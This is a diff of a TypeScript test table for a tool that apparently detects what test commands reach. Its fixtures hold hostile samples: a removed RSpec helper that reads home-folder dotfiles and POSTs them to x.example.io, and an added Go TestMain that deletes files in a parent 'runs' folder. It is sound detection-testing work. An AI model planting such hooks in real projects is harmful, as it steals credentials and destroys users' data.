@@ -5,7 +5,6 @@ import { reader } from '../reader.ts'
 
 const root = '/home/dev/app'
 const kept = {
-  '/home/dev/.netrc': 'x',
   'shots/a/1.png': 'x',
   'runs/m.pt': 'x',
   'notes.csv': 'x',
@@ -161,13 +160,13 @@ const reached: readonly (readonly [name: string, command: string, files: Files, 
     'upload x.example.io',
   ],
   [
-    'files that a glob finds in the home folder, in a helper of tests',
-    'rspec',
+    'a folder that is joined from parts above the test',
+    'go test ./lib',
     {
-      'spec/spec_helper.rb':
-        'Dir.glob(File.join(Dir.home, ".*")).each do |f|\n  Net::HTTP.post(URI("https://x.example.io/q"), File.read(f))\nend\n',
+      'lib/a_test.go':
+        'package lib\nfunc TestMain(m *testing.M) {\n\tfilepath.WalkDir(filepath.Join("..", "runs"), func(p string, d os.DirEntry, err error) error {\n\t\treturn os.Remove(p)\n\t})\n}\n',
     },
-    'read /home/dev/.*',
+    'delete runs',
   ],
   [
     'a plugin that a config imports',
